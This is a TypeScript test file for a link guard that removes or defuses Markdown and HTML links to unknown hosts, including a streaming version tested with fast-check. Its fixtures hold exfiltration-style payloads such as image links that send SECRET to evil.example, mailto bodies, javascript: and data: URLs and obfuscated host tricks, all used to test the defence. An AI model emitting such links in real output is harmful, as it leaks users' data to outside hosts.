import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { createLinkGuard, knownHosts, withoutForeignLinks } from './link-guard.ts'

const isKnown = knownHosts(['https://docs.kalo.example/refunds', 'notes/plan.md'], ['*.kalo.help'])
const shown = (text: string): string => withoutForeignLinks(text, isKnown)

describe('addresses of unknown hosts', () => {
  it.each([
    ['![x](https://evil.example/?q=SECRET)', '![x]()'],
    ['[here](https://evil.example/login "Login")', '[here](<> "Login")'],
    ['[here](<https://evil.example/a b>)', '[here]()'],
    ['[x](https:evil.example)', '[x]()'],
    ['[x](https:/evil.example)', '[x]()'],
    ['[x](h&#116;tps:evil.example)', '[x]()'],
    ['[x](/&Tab;/evil.example)', '[x](/ /evil.example)'],
    ['[x](//evil&period;example)', '[x]()'],
    ['[x](//evil。example)', '[x]()'],
    ['[x](//2130706433/x)', '[x]()'],
    ['[x](https://docs.kalo.example&commat;evil.example/)', '[x]()'],
    ['[x](vscode://evil.example)', '[x]()'],
    ['[x](mailto:a@evil.example?body=SECRET)', '[x]()'],
    ['> [a]:\n>   https:evil.example', '> [a]:\n>   <>'],
    ['[a]: https://evil.example/x', '[a]: <>'],
    ['[x](//evil.example/x)', '[x]()'],
    ['[x](\\\\evil.example\\x)', '[x]()'],
    ['[x](https&colon;//evil.example)', '[x]()'],
    ['[x](https&#58;&#x2F;&#47;evil.example)', '[x]()'],
    ['[x](https:\\/\\/evil.example)', '[x]()'],
    ['[x](javascript:alert(1))', '[x]())'],
    ['[x](data:text/html;base64,AAAA)', '[x]()'],
  ])('as the target of %s point nowhere', (text, expected) => {
    expect(shown(text)).toBe(expected)
  })

  it.each([
    ['See https://evil.example/x?d=1 now', 'See evil.example/x?d=1 now'],
    ['See www.evil.example', 'See evil.example'],
    ['<https://evil.example>', '\\<evil.example>'],
    ['<https://evil>', '<evil>'],
    ['<vscode:evil>', '\\<vscode:evil>'],
    ['www.www.evil.example', 'evil.example'],
    ['ww&#119;.evil.example', 'evil.example'],
    ['www\\.evil.example', 'evil.example'],
    ['<img src="https://evil.example/x.png">', '\\<img src="evil.example/x.png">'],
    ['\\<b> \\\\<b>', '\\<b> \\\\\\<b>'],
    ['x](<img src=x onerror=y>', 'x](img%20src=x%20onerror=y'],
    ['[a]&colon; //evil.example', '[a]&colon; evil.example'],
    ['ht\u200btps://evil.example', 'evil.example'],
    ['HTTPS://EVIL.example', 'EVIL.example'],
    ['ftp://evil.example/x', 'evil.example/x'],
    ['https://docs.kalo.example@evil.example/', 'docs.kalo.example@evil.example/'],
    ['https://docs.kalo.example.evil.example/', 'docs.kalo.example.evil.example/'],
    ['https://evil.example/https://docs.kalo.example/', 'evil.example/https://docs.kalo.example/'],
    ['https://[::1]:80/', '[::1]:80/'],
  ])('in prose are text: %s', (text, expected) => {
    expect(shown(text)).toBe(expected)
  })
})

describe('known addresses and other text', () => {
  it.each([
    '[Refunds](https://docs.kalo.example/refunds#digital)',
    'https://docs.kalo.example:8443/a?b=c and https://eu.kalo.help, https://kalo.help.',
    '[up](../plan.md#x) and [top](#top)',
    '<https://docs.kalo.example/a>, [mail](mailto:help@kalo.example), 1 < 2 <3',
    'a // comment, //note, 50%/50%, C:\\temp, and/or, 1:2, data: none',
    'const ratio = a //b',
    '<<ticket>> and </ticket>',
  ])('stay as they are: %s', (text) => {
    expect(shown(text)).toBe(text)
  })
})

describe('a guard', () => {
  it('gives the same text however it is cut', () => {
    const pieces = fc.constantFrom(
      'See ',
      '![x](',
      'https:',
      '//',
      'evil.example',
      '/?q=1',
      ')',
      ' ',
      '\n',
      'www.',
      'docs.kalo.example',
      '[a](',
      ']: ',
      '](<',
      '>',
      '<b',
      '&colon;',
      '&#119;',
      '&#47;',
      '\\',
      'word',
    )
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 20 }),
        fc.infiniteStream(fc.nat(5)),
        (parts, cuts) => {
          const text = parts.join('')
          const guard = createLinkGuard(isKnown)
          let written = ''
          for (let at = 0; at < text.length; ) {
            const next = at + 1 + cuts.next().value
            written += guard.push(text.slice(at, next))
            at = next
          }
          expect(written + guard.end()).toBe(shown(text))
        },
      ),
    )
  })

  it('holds back a last word that may become an address, and no other', () => {
    const guard = createLinkGuard(isKnown)
    expect(guard.push('Go to http')).toBe('Go to ')
    expect(guard.push('s://evil.example/x and')).toBe('evil.example/x and')
    expect(guard.push(' w')).toBe(' ')
    expect(guard.end()).toBe('w')
  })
})
